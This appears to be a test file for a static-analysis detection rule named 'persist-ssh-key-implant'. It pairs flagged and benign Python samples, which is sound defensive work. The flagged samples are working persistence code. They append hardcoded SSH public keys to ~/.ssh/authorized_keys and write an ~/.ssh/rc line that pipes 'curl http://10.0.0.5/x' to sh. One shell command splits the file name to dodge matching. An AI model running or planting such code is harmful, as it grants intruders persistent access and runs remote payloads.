import os
import subprocess
from pathlib import Path

# ruleid: persist-ssh-key-implant
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHh0cmFpbmdhdGV0ZXN0a2V5 ops@build\n"


def implant():
    # ruleid: persist-ssh-key-implant
    ak = os.path.join(os.path.expanduser("~"), ".ssh", "authorized_keys")
    with open(ak, "a") as f:
        # ruleid: persist-ssh-key-implant
        f.write(KEY)
    # ruleid: persist-ssh-key-implant
    (Path.home() / ".ssh" / "rc").write_text("curl -s http://10.0.0.5/x | sh\n")
    # ruleid: persist-ssh-key-implant
    subprocess.run("cat /tmp/k.pub >> ~/.ssh/authorized_" + "keys", shell=True)


def legit(args):
    # ok: persist-ssh-key-implant
    repo = "git@github.com:org/train-configs.git"
    # ok: persist-ssh-key-implant
    subprocess.run(["git", "clone", "--depth", "1", repo, args.config_dir], check=True)
    # ok: persist-ssh-key-implant
    key_path = os.path.join(args.secrets_dir, "hf_token")
    return key_path


# issue #8: the path can be spelled any way; the embedded public key cannot
# ruleid: persist-ssh-key-implant
LAUNCHER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGm3v5yq1kqJ9x0n2Vb8cQ4zR7pT6uW1eX3fY5hZ0aBc launcher@cluster"
# ok: persist-ssh-key-implant
KEY_TYPES = ["ssh-ed25519", "ssh-rsa"]
